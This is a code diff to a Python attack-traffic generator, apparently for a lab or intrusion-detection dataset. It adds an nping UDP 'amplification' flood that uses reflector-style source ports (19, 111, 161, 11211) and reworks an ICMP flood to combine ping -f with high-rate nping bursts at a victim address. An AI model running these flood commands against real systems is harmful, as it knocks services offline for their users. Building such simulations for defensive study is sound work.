@@ -51,9 +51,20 @@ def flood(*kind: str) -> Activity:
     return commands
 
 
+def amplification(plan: Plan, host: Host, numbers: random.Random) -> list[Command]:
+    rate = numbers.choice((600, 1500, 4000))
+    return [Command(pause, (*NPING, "--udp", "-g", str(numbers.choice((19, 111, 161, 11211))), "-p", str(numbers.randrange(1024, 65536)),
+                            "--data-length", str(numbers.choice((200, 700, 1100))), "--rate", str(rate), "-c", str(min(plan.packets // 4, rate * 2)),
+                            str(plan.victim.address)), 6) for pause in (0.3, 0.7)]
+
+
 def icmp_flood(plan: Plan, host: Host, numbers: random.Random) -> list[Command]:
-    return [Command(0.3, ("ping", "-n", "-q", "-f", "-c", str(min(plan.packets // 2, 4000)), "-s", str(numbers.choice((32, 300, 1200))),
-                          one_victim(plan, numbers)[-1]), 12)]
+    """ping -f waits for answers, and is slow on a busy machine; nping is not."""
+    rate = numbers.choice((400, 1200, 4000))
+    size, target = str(numbers.choice((32, 300, 1200))), one_victim(plan, numbers)[-1]
+    return [Command(0.3, ("ping", "-n", "-q", "-f", "-c", str(min(plan.packets // 4, 4000)), "-s", size, target), 4),
+            Command(0.3, (*NPING, "--icmp", "--rate", str(rate), "-c", str(min(plan.packets // 4, rate * 2)), "--data-length", size,
+                          str(plan.victim.address)), 6)]
 
 
 def guess_ssh(plan: Plan, host: Host, numbers: random.Random) -> list[Command]:
